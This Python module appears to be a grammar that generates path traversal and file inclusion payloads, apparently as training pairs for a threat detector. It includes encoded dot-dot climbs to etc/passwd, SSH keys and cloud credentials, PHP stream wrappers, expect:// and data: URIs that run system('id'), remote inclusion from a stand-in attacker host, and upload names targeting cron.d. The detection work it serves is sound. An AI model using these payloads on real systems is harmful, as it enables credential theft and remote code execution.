"""Path traversal and file inclusion: dot-dot in many encodings, absolute paths, stream wrappers, Windows, archives."""

from threatclip.pairs.grammar.start import PARAM, Start

STARTS = (
    Start("attack", weight=12, places=PARAM),
    Start("attack", weight=3, places=("query",)),
    Start("tail_path", weight=6, places=("tail",)),
    Start("wrapper", weight=3, places=PARAM),
    Start("absolute", weight=3, places=PARAM),
    Start("write_name", weight=1, places=("part",)),
    Start("header_value", weight=1, places=("header", "cookie")),
    Start("target", weight=2, places=("target",)),
)

TEXT = r"""
attack := *9 «climb»«file»«suffix?15» ¦ *2 «prefix»«climb»«file»«suffix?15» ¦ *2 «climb_win»«wfile»«suffix?10»
  ¦ «prefix»«climb_win»«wfile» ¦ *2 «absolute» ¦ «wrapper» ¦ «climb»«app_file» ¦ «climb»«app_file»«suffix»
  ¦ «short»«app_file» ¦ «climb_mixed»«file» ¦ «named»
climb := *12 «u1*2-12» ¦ «$u:u2*3-10» ¦ «$u:u3*3-9» ¦ «$u:u4*3-9» ¦ «$u:u5*3-9» ¦ «$u:u6*3-9» ¦ «$u:u7*3-9»
  ¦ «$u:u8*3-9» ¦ «$u:u9*3-8» ¦ «$u:u10*3-8» ¦ «$u:u11*3-8» ¦ «$u:u12*2-8» ¦ «$u:u13*3-8» ¦ «$u:u14*3-8» ¦ «$u:u15*3-8»
  ¦ «$u:u16*3-8» ¦ *2 /«u1*2-10» ¦ *2 «u1*1-3» ¦ ./«u1*2-8» ¦ «$u:u17*3-8» ¦ «$u:u18*3-8» ¦ «$u:u19*3-8» ¦ «$u:u20*3-8»
  ¦ «$u:u21*3-8»
u1 := ../
u2 := ..%2f
u3 := %2e%2e/
u4 := %2e%2e%2f
u5 := ..%252f
u6 := %252e%252e%252f
u7 := ....//
u8 := ..././
u9 := ..%c0%af
u10 := %c0%ae%c0%ae/ ¦ %c0%ae%c0%ae%c0%af
u11 := ..%u2215 ¦ ..%u2216 ¦ %uff0e%uff0e/
u12 := ..;/ ¦ ..;/
u13 := .%2e/
u14 := ..// ¦ .././ ¦ ..///
u15 := %2e./ ¦ .%2E/
u16 := ..%25c0%25af ¦ ..%e0%80%af ¦ %%32%65%%32%65/ ¦ .%%32%65/ ¦ ..%ef%bc%8f
u17 := /%5c.. ¦ /.. ¦ /..%2f
u18 := ..%00/ ¦ ..%0d/ ¦ ..%ff/ ¦ ..%01/
u19 := %2E%2E%2F ¦ ..%2F
u20 := ....\/ ¦ ...// ¦ …/ ¦ ．．/ ¦ ..∕
u21 := .?/.?/ ¦ ..?/ ¦ ..*/ ¦ {..}/ ¦ .'./ ¦ "../"
climb_win := *4 «$w:w1*2-10» ¦ «$w:w2*3-9» ¦ «$w:w3*3-9» ¦ «$w:w4*3-9» ¦ «$w:w5*3-9» ¦ «$w:w6*3-8» ¦ «u1*3-9»
  ¦ «$u:u2*3-9» ¦ \«$w:w1*2-8» ¦ «$w:w7*3-8» ¦ «$w:w8*3-8»
w1 := ..\
w2 := ..%5c
w3 := %2e%2e%5c
w4 := ..%255c
w5 := ..\/ ¦ ../\
w6 := %252e%252e%255c ¦ ..%c1%9c ¦ ..%c0%5c
w7 := ....\\ ¦ ..\\ ¦ ...\.\
w8 := \.. ¦ /..\..
climb_mixed := «mixed*3-8»
mixed := «u1» ¦ «u2» ¦ «u4» ¦ «w1» ¦ «u7» ¦ «w2» ¦ ./ ¦ «word»/../ ¦ /./ ¦ «u13» ¦ //
file := *5 «unix_path» ¦ *2 etc/passwd ¦ «unix_path|case»
  ¦ etc«=%2f~%252f~//~/./~%5c~\»«=passwd~shadow~hosts~hostname~group~issue» ¦ «wfile» ¦ «unix_path|url» ¦ etc/./passwd
  ¦ «unix_path»/. ¦ e%74c/pass%77d ¦ /«unix_path» ¦ proc/self/environ ¦ tmp/«rand» ¦ var/www/«word»/«app_file»
  ¦ «coined»/«word».«=conf~cfg~ini~db~xml~log~json~yml»
wfile := *3 «win_path» ¦ windows\win.ini ¦ boot.ini ¦ windows\system32\drivers\etc\hosts
  ¦ Windows\System32\inetsrv\config\applicationHost.config ¦ winnt\«=win~system».ini ¦ inetpub\wwwroot\web.config
  ¦ windows%5cwin.ini ¦ Windows%2FSystem32%2Fdrivers%2Fetc%2Fhosts ¦ users\«word»\ntuser.ini
  ¦ windows\repair\«=sam~system» ¦ web.config ¦ ProgramData\«coined|cap»\«word».xml
suffix := *3 %00 ¦ %00.«ext» ¦ %00.«ext» ¦ %2500.«ext» ¦ «nul» ¦ .«ext» ¦ ?.«ext» ¦ ; ¦ # ¦ ? ¦ %23 ¦ %3f ¦ /. ¦ ::$DATA
  ¦ «slashdot*60-90» ¦ %20 ¦ .%00 ¦ &«ab»=«rand» ¦ %0a ¦ ;.«ext» ¦ /./././. ¦ \0.«ext» ¦ %00index.html ¦ ... ¦ ~
slashdot := /.
ext := *3 jpg ¦ png ¦ html ¦ htm ¦ pdf ¦ php ¦ txt ¦ js ¦ css ¦ gif ¦ xml ¦ json ¦ jsp ¦ inc ¦ log ¦ tpl ¦ zip
prefix := *2 «word»/ ¦ /«word»/ ¦ ./ ¦ /var/www/html/ ¦ /var/www/images/ ¦ images/ ¦ «word».«ext»/ ¦ C:/ ¦ C:\
  ¦ /usr/local/«word»/ ¦ file:// ¦ file:/// ¦ /static/ ¦ \ ¦ «word»/«word»/ ¦ //«word»/ ¦ «word».«ext»?/ ¦ en/
  ¦ default/ ¦ php://filter/read=convert.base64-encode/resource= ¦ ;/ ¦ | ¦ /«rand»/
absolute := *4 «unix_file» ¦ /«unix_path|case» ¦ *2 C:\«win_path» ¦ C:/«win_path» ¦ c:%5c«wfile» ¦ /etc/passwd
  ¦ //«unix_path» ¦ /./«unix_path» ¦ file://«unix_file» ¦ file:///«unix_path» ¦ file:///C:/«win_path»
  ¦ %2f«unix_path|url» ¦ /«unix_path»%00 ¦ D:\«word»\«word».«ext» ¦ \\«attacker»\«word»\«rand».«ext»
  ¦ \\localhost\c$\«wfile» ¦ \\.\C:\«wfile» ¦ \\?\C:\«wfile» ¦ /%2e%2e/«unix_path» ¦ /proc/self/root/«unix_path»
  ¦ /usr/../«unix_path» ¦ `«unix_file»` ¦ '«unix_file»' ¦ {"file":"«unix_file»"} ¦ ///«unix_path» ¦ /etc//passwd
  ¦ /etc/passwd# ¦ ~/.«=ssh/id_rsa~bash_history~aws/credentials» ¦ «unix_file»?«rand»
wrapper := *3 php://filter/convert.base64-encode/resource=«php_target»
  ¦ *2 php://filter/read=convert.base64-encode/resource=«php_target»
  ¦ php://filter/zlib.deflate/convert.base64-encode/resource=«php_target»
  ¦ php://filter/read=string.«=rot13~toupper~tolower»/resource=«php_target»
  ¦ PHP://filter/convert.iconv.utf-8.utf-16/resource=«php_target»
  ¦ pHp://FilTer/convert.base64-encode/resource=«php_target» ¦ php://filter/resource=«unix_file»
  ¦ php://filter/string.strip_tags/resource=«php_target» ¦ zip://«climb»tmp/«rand».zip%23«rand».php
  ¦ phar://«climb»uploads/«rand».«=jpg~phar~zip»/«word».php ¦ file://«unix_file» ¦ file:///«unix_path»
  ¦ jar:file://«unix_file»!/«word».class ¦ netdoc://«unix_file» ¦ glob://«unix_file» ¦ compress.zlib://«unix_file»
  ¦ compress.bzip2://«unix_file» ¦ php://fd/«tens» ¦ classpath:«app_file» ¦ local_file://«unix_file»
  ¦ view-source:file://«unix_file» ¦ «url»%00 ¦ «url».txt? ¦ «scheme»://«attacker»/«word».txt%00
  ¦ «scheme»://«ip»/«word».«=txt~inc~jpg~gif»? ¦ «scheme»://«ip»:«port»/«rand».php
  ¦ ftp://«word»:«rand»@«attacker»/«word».php ¦ \\«attacker»\«word».php ¦ resource://«app_file»
  ¦ @2022 php://filter/convert.iconv.L1.UCS-4LE|convert.base64-decode/resource=«php_target» ¦ expect://«=id~ls~whoami»
  ¦ data:text/plain,<?php «=phpinfo();~system('id');»?> ¦ php://input ¦ ogg://«attacker»/«rand»
  ¦ ssh2.sftp://«word»@«attacker»/«rand» ¦ gopher://«attacker»/_«rand» ¦ zlib://«unix_file»
  ¦ rar://«rand».rar#«rand».php
php_target := index.php ¦ config.php ¦ «word».php ¦ «climb»«app_file» ¦ /var/www/html/«word».php ¦ «unix_file»
  ¦ /etc/passwd ¦ ../«word».php ¦ wp-config.php ¦ «word»/«word».inc ¦ index
short := ../ ¦ ../../ ¦ ./ ¦ /../ ¦ «word»/../ ¦ «word»/../../ ¦ ;/../ ¦ ..%2f ¦ //..// ¦ /./../ ¦ .\ ¦ %2e/ ¦ ..%252f
named := «word»«climb»«file» ¦ {«climb»«file»} ¦ «word».«ext»/«climb»«file» ¦ «climb»«file»/«word» ¦ file=«climb»«file»
  ¦ «climb»«word»/«word».«ext» ¦ ../«word».«=sqlite~db~bak~sql~conf~key~pem~p12~jks»
  ¦ «climb»«=windows/win.ini~etc/passwd~etc/hosts»;«climb»«=etc/hostname~boot.ini» ¦ <?=`cat «unix_file»`?>
  ¦ «climb»{{«file»}} ¦ «word»/«climb»/«file»?«ab»=«small» ¦ «climb» ¦ «climb_win» ¦ ../../../../../..%2f..%2f«file»
  ¦ !«climb»«file» ¦ @«climb»«file»
tail_path := *4 /«climb»«file» ¦ *2 /«word»/«climb»«file» ¦ /«word»/«climb_win»«wfile» ¦ *2 /static/«climb»«file»
  ¦ /«=assets~public~images~img~css~js~themes~download~files~plugins~resources~webjars~theme~docs~cgi-bin~icons~uploads~media~fileserver~a~b~page~help»/«climb»«file»
  ¦ //«climb»«file» ¦ /.%2e/.%2e/.%2e/«file» ¦ /cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/«file»
  ¦ /%2e%2e//%2e%2e//%2e%2e//«file» ¦ /..%5c..%5c..%5c..%5c«wfile» ¦ /\..\..\..\..\«wfile» ¦ /«rand»/..;/..;/«app_file»
  ¦ /%c0%ae%c0%ae/«app_file» ¦ /%2e/«app_file» ¦ /;/«app_file» ¦ /«word»/..%252F..%252F..%252F«file»
  ¦ /%252e%252e/%252e%252e/«app_file» ¦ /..././..././..././«file» ¦ /«word»/.//.//..//..//«file»
  ¦ /«word»;/../../../«file» ¦ /%5C../%5C../%5C../«file» ¦ /«word»/..%00/..%00/«file» ¦ /«word»../«app_file»
  ¦ /static../«app_file» ¦ /«word».«ext»/..\..\..\«wfile» ¦ /~root/«file» ¦ /%255c%255c..%255c/..%255c/..%255c/«wfile»
  ¦ /«small»/%%32%65%%32%65/%%32%65%%32%65/«file» ¦ //%5c%5c%5c..//%5c..//«wfile»
  ¦ /«word»/%u002e%u002e/%u002e%u002e/«file» ¦ /«word»/#/../../«file» ¦ /«word»::$INDEX_ALLOCATION/«climb_win»«wfile»
  ¦ /«word»/%80../%80../«file»
write_name := Content-Disposition: form-data; name="«word»"; filename="«climb»«word».«=txt~php~jsp~html~conf~sh»"«cr»«nl»Content-Type: text/plain«cr»«nl»«cr»«nl»«rand»
  ¦ Content-Disposition: form-data; name="«word»"; filename="..\..\..\«word»\«rand».«=txt~aspx~config»"«cr»«nl»Content-Type: application/octet-stream«cr»«nl»«cr»«nl»«rand20»
  ¦ Content-Disposition: form-data; name="«=path~dir~folder~filename~dest»"«cr»«nl»«cr»«nl»«climb»«word»/«word»
  ¦ Content-Disposition: form-data; name="file"; filename="«climb»etc/cron.d/«rand»"«cr»«nl»Content-Type: application/octet-stream«cr»«nl»«cr»«nl»«rand»
header_value := «climb»«file» ¦ «climb»«file»%00 ¦ «unix_file» ¦ «climb_win»«wfile» ¦ «climb»tmp/sess_«rand»
  ¦ «word»/«climb»«file»
target := «tail_path»
  ¦ /«word»?«=file~path~page~name~filename~f~p~dir~doc~include~template~url~lang~log~load~read~img~document~folder~root~pg~style~module~locale~src~download~download_file~filepath~view~cat~action~board~date~detail~show~site~type~content~layout~mod~conf~inc~theme~skin»=«climb»«file»
  ¦ /«=download~read~view~get~show~fetch~open~file~files~static~export~render~preview~image~log~logs»«=~.php~.jsp~.do~.cgi~.aspx~.action»?«=file~path~name~filename~f~id»=«climb»«file»&«word»=«int»
  ¦ /«=download~read~file~view~include»«=~.php~.jsp~.aspx»?«=file~path~name»=«absolute»
  ¦ /cgi-bin/«word»?«=page~file~getpage~errorpage»=«climb»«file» ¦ /«app_file»
"""  # noqa: E501
